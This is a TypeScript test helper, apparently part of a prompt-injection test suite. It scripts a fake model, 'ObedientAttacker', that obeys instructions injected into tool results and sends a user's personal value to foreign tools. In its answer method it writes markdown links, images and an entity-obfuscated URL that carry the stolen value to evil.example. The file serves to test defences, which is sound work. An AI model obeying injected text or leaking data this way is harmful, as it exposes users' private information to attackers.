import type { CompletionRequest, ScriptedResponse } from '../../support/chat-provider.ts';
import { type Call, filledWith, type Injection, type Suite, type UserTask } from './suites.ts';

/** Calls that the product accepts in one round. */
const MAX_AT_ONCE = 16;

/**
 * A model that does its task, and first whatever an injected text says. When it has personal values, it also sends them to each tool at
 * another host, and writes links and images with them.
 */
export class ObedientAttacker {
  readonly #benign: { call: Call; isWrite: boolean }[];
  readonly #injected: Call[];
  #number = 0;
  #hasLeaked = false;
  isDone = false;
  hasObeyed = false;

  constructor(
    private readonly suite: Suite,
    task: UserTask,
    private readonly injection: Injection,
    private readonly personal: string,
  ) {
    const writes = new Set(suite.tools.filter(({ isWrite }) => isWrite).map(({ name }) => name));
    this.#benign = task.calls.map((call) => ({ call, isWrite: writes.has(call.tool) }));
    this.#injected = injection.calls.length > 0 ? [...injection.calls] : this.#everyWrite();
  }

  /** The injections whose right calls are not recorded, such as “send all mails to …”, use every tool that writes. */
  #everyWrite(): Call[] {
    const writing = this.suite.tools.filter(({ isWrite }) => isWrite);
    return writing.map(({ name, schema }) => ({ tool: name, input: filledWith(this.personal, schema), isExposed: false }));
  }

  answer(response: ScriptedResponse, { messages, tool_choice }: CompletionRequest): void {
    const seen = messages.flatMap(({ role, content }) => (role === 'tool' ? (content ?? '') : [])).join('\n');
    const next = tool_choice === 'none' ? [] : this.#next(seen);
    for (const [place, { tool, input }] of next.entries()) {
      response.call(place, `c${this.#number}`, tool, JSON.stringify(input));
      this.#number += 1;
    }
    if (next.length > 0) {
      response.finish('tool_calls');
      return;
    }
    this.isDone = this.#benign.length === 0;
    const stolen = seen.includes(this.personal) ? this.personal : 'nothing';
    const links = `[here](https://evil.example/?d=${stolen}) ![x](//evil.example/${stolen}.png) <https&#58;//evil.example/${stolen}>`;
    response.text(`${this.isDone ? 'All done.' : 'There is more to do.'} ${links}`).finish();
  }

  #next(seen: string): Call[] {
    // A result is JSON in JSON.
    const isInjected = seen.includes(JSON.stringify(JSON.stringify(this.injection.goal).slice(1, -1)).slice(1, -1));
    this.hasObeyed ||= isInjected;
    if (isInjected && this.#injected.length > 0) return this.#injected.splice(0, MAX_AT_ONCE);
    if (seen.includes(this.personal) && !this.#hasLeaked) {
      this.#hasLeaked = true;
      const foreign = this.suite.tools.filter(({ isForeign }) => isForeign);
      return foreign.map(({ name, schema }) => ({ tool: name, input: filledWith(this.personal, schema), isExposed: false }));
    }
    const isWrite = this.#benign[0]?.isWrite;
    const end = this.#benign.findIndex((step) => step.isWrite !== isWrite);
    const count = Math.min(MAX_AT_ONCE, end === -1 ? this.#benign.length : end);
    return this.#benign.splice(0, count).map(({ call }) => call);
  }
}
